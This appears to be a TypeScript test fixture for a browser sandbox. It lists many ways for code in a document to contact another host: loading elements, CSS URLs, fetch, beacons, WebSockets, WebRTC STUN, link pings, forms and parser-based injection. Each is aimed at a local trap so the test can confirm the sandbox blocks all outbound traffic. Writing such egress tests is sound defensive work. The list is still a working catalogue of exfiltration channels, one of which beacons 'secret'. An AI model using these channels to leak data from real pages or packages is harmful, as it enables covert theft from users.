/**
 * Every way that we know for code in a document to reach another host, each told the address of a trap. They run in the frame of a package,
 * where the trap must hear nothing, and in a plain page, where it must: else the trap would be deaf. Each gives what it saw.
 */
type Exfiltration = (trap: { readonly url: string; readonly port: number }) => unknown;

interface Made {
  readonly name: string;
  readonly attributes: Readonly<Record<string, string>>;
}

/** Elements that load or look up something by themselves; `URL` stands for the trap's address. */
export const loadingElements: Readonly<Record<string, Made>> = {
  image: { name: 'img', attributes: { src: 'URL/img' } },
  'image with candidates': { name: 'img', attributes: { srcset: 'URL/srcset 2x' } },
  'image with a report': { name: 'img', attributes: { attributionsrc: 'URL/attribution' } },
  script: { name: 'script', attributes: { src: 'URL/script' } },
  'style sheet': { name: 'link', attributes: { rel: 'stylesheet', href: 'URL/css' } },
  prefetch: { name: 'link', attributes: { rel: 'prefetch', href: 'URL/prefetch' } },
  preload: { name: 'link', attributes: { rel: 'preload', as: 'image', href: 'URL/preload' } },
  'module preload': { name: 'link', attributes: { rel: 'modulepreload', href: 'URL/modulepreload' } },
  preconnect: { name: 'link', attributes: { rel: 'preconnect', href: 'URL/' } },
  'lookup of a name': { name: 'link', attributes: { rel: 'dns-prefetch', href: 'URL/' } },
  icon: { name: 'link', attributes: { rel: 'icon', href: 'URL/icon' } },
  manifest: { name: 'link', attributes: { rel: 'manifest', href: 'URL/manifest' } },
  video: { name: 'video', attributes: { src: 'URL/video', autoplay: '' } },
  poster: { name: 'video', attributes: { poster: 'URL/poster' } },
  audio: { name: 'audio', attributes: { src: 'URL/audio', preload: 'auto' } },
  object: { name: 'object', attributes: { data: 'URL/object', type: 'text/html' } },
  embed: { name: 'embed', attributes: { src: 'URL/embed', type: 'text/html' } },
  frame: { name: 'iframe', attributes: { src: 'URL/frame' } },
  'frame of text': { name: 'iframe', attributes: { srcdoc: '<img src="URL/srcdoc">' } },
  'input image': { name: 'input', attributes: { type: 'image', src: 'URL/input' } },
  background: { name: 'div', attributes: { style: 'width:9px;height:9px;background:url(URL/background)' } },
  cursor: { name: 'div', attributes: { style: 'cursor:url(URL/cursor),auto' } },
};

/** Runs in the browser. */
export const calls: Readonly<Record<string, Exfiltration>> = {
  fetch: ({ url }) => fetch(`${url}/fetch`, { mode: 'no-cors' }),
  'fetch that outlives the page': ({ url }) => fetch(`${url}/keepalive`, { mode: 'no-cors', keepalive: true }),
  XMLHttpRequest: ({ url }) => {
    const request = new XMLHttpRequest();
    request.open('GET', `${url}/xhr`);
    request.send();
  },
  WebSocket: ({ port }) => void new WebSocket(`ws://127.0.0.1:${port}/socket`),
  EventSource: ({ url }) => void new EventSource(`${url}/events`),
  beacon: ({ url }) => navigator.sendBeacon(`${url}/beacon`, 'secret'),
  'import of a module': ({ url }) => import(`${url}/module.js`),
  worker: ({ url }) => {
    const code = `fetch('${url}/worker', { mode: 'no-cors' })`;
    new Worker(window.URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
  },
  font: ({ url }) => new FontFace('stolen', `url(${url}/font)`).load(),
  'image without an element': ({ url }) => {
    new Image().src = `${url}/image`;
  },
  'sheet of a style': ({ url }) => {
    const style = document.createElement('style');
    document.head.append(style);
    style.sheet?.insertRule(`@import url(${url}/import)`);
  },
  'rule of a style': ({ url }) => {
    const style = document.createElement('style');
    document.head.append(style);
    style.sheet?.insertRule(`html { list-style: url(${url}/rule); border-image: url(${url}/rule) 1; }`);
  },
  'sheet without an element': ({ url }) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(
      `body { background-image: url(${url}/sheet) } @font-face { font-family: s; src: url(${url}/face) } body { font-family: s }`,
    );
    document.adoptedStyleSheets.push(sheet);
  },
  WebRTC: async ({ port }) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
  },
  WebTransport: ({ port }) =>
    new (window as never as { WebTransport: new (url: string) => { ready: Promise<void> } }).WebTransport(`https://127.0.0.1:${port}`)
      .ready,
  'ping of a link': ({ url }) => {
    const link = document.createElement('a');
    Object.assign(link, { href: '#x', ping: `${url}/ping` });
    document.body.append(link);
    link.click();
  },
  form: ({ url }) => {
    const form = document.createElement('form');
    Object.assign(form, { action: `${url}/form`, method: 'post', target: '_blank' });
    document.body.append(form);
    form.submit();
  },
  popup: ({ url }) => void window.open(`${url}/popup`),
  'popup by a link': ({ url }) => {
    const link = document.createElement('a');
    Object.assign(link, { href: `${url}/link`, target: '_blank' });
    document.body.append(link);
    link.click();
  },
  'text as elements': ({ url }) => {
    document.body.insertAdjacentHTML('beforeend', `<img src="${url}/html"><link rel="preconnect" href="${url}">`);
  },
  'inner text as elements': ({ url }) => {
    const box = document.createElement('div');
    box.innerHTML = `<img src="${url}/inner">`;
    document.body.append(box);
  },
  'a document that is parsed': ({ url }) => {
    const parsed = new DOMParser().parseFromString(`<link rel="preconnect" href="${url}">`, 'text/html');
    document.body.append(...parsed.querySelectorAll('link'));
  },
  'a document that is made': ({ url }) => {
    const made = document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'link');
    const link = document.adoptNode(made.documentElement);
    link.setAttribute('rel', 'preconnect');
    link.setAttribute('href', url);
    document.body.append(link);
  },
  'an element by its namespace': ({ url }) => {
    const link = document.createElementNS('http://www.w3.org/1999/xhtml', 'x:link');
    link.setAttribute('rel', 'preconnect');
    link.setAttribute('href', url);
    document.body.append(link);
  },
  'an element of one’s own class': ({ url }) => {
    class Own extends HTMLLinkElement {}
    customElements.define('own-link', Own, { extends: 'link' });
    const link = new Own();
    link.rel = 'preconnect';
    link.href = url;
    document.body.append(link);
  },
  'a sanitised text': ({ url }) => {
    const box = document.createElement('div');
    const set = (box as never as { setHTML(text: string, options: object): void }).setHTML;
    set.call(box, `<link rel="preconnect" href="${url}">`, { sanitizer: { elements: ['link'], attributes: ['rel', 'href'] } });
    document.body.append(box);
  },
  'a fragment': ({ url }) => document.body.append(document.createRange().createContextualFragment(`<img src="${url}/fragment">`)),
  'a realm of another frame': async ({ port }) => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    const inner = frame.contentWindow as never as { RTCPeerConnection: typeof RTCPeerConnection };
    const peer = new inner.RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
  },
};
